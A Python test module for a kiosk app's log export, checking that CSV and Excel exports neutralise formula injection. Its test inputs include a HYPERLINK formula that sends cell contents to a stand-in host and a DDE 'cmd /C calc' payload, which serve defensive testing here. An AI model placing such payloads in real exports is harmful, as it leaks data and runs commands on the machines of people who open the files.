"""Log exports never hand a spreadsheet a formula (OWASP CSV injection, issue 13 item 6): text
that could start one — =, +, -, @, TAB or CR, also after blanks — is neutralised in the CSV and
stored as plain text in the workbook, whether typed at this kiosk or pulled from another."""

from __future__ import annotations

import csv
from pathlib import Path

from openpyxl import load_workbook

from kiosk.core.events import Event
from kiosk.core.ids import new_id
from kiosk.features.admin.service.exports import build_log_services
from kiosk.features.admin.service.logs import LogFilters, LogKind
from kiosk.platform.store import eventlog
from kiosk.shell.context import KioskServices

TYPED = ['=HYPERLINK("http://x.example/?"&A1,"看")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"]
# Text a kiosk cannot type (it trims blanks) but another kiosk or a phone page may have sent.
PULLED = ["\t=1+1", "\r=1+1", "\t@SUM(1)", " =1+1"]


def _pulled_wish(services: KioskServices, text: str, seq: int) -> None:
    event = Event(
        id=new_id(),
        kind="wish.submitted",
        station_id=services.settings.station_id,
        kiosk_id="north-exit-kiosk",
        seq=seq,
        occurred_at=services.clock.now(),
        actor=None,
        payload={
            "wish_id": new_id(),
            "ticket": f"9{seq:05d}",
            "category": "other",
            "channel": "kiosk",
            "text": text,
        },
    )
    with services.database.write() as session:
        assert eventlog.ingest(session, event)


def _texts(services: KioskServices) -> list[str]:
    for text in TYPED:
        services.wishes.submit("other", text)
    for seq, text in enumerate(PULLED, start=1):
        _pulled_wish(services, text, seq)
    return TYPED + PULLED


def _runnable(cell: str) -> bool:
    """Whether a spreadsheet could take `cell` for a formula (a plain number is harmless)."""
    start = cell.lstrip(" \t\r\n")[:1]
    number = cell.lstrip("+-").replace(".", "", 1).isdigit()
    return (start in ("=", "+", "-", "@") or cell[:1] in ("\t", "\r")) and not number


def test_a_csv_export_neutralises_every_formula(services: KioskServices, tmp_path: Path) -> None:
    texts = _texts(services)
    _, exports = build_log_services(services)
    result = exports.export(LogKind.WISHES, LogFilters(), "csv", folder=tmp_path)
    with result.path.open(newline="", encoding="utf-8-sig") as file:
        header, *rows = list(csv.reader(file))
    shown = [row[header.index("内容 Text")] for row in rows]
    assert len(shown) == len(texts) and all(cell.startswith("'") for cell in shown)
    assert {cell[1:] for cell in shown} >= set(TYPED)  # the text itself, after the apostrophe
    assert not [cell for row in rows for cell in row if _runnable(cell)]


def test_a_workbook_export_stores_text_never_a_formula(
    services: KioskServices, tmp_path: Path
) -> None:
    texts = _texts(services)
    _, exports = build_log_services(services)
    result = exports.export(LogKind.WISHES, LogFilters(), "xlsx", folder=tmp_path)
    sheet = load_workbook(result.path).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    assert {t for t in texts if t.startswith("=")} <= {cell.value for cell in cells}
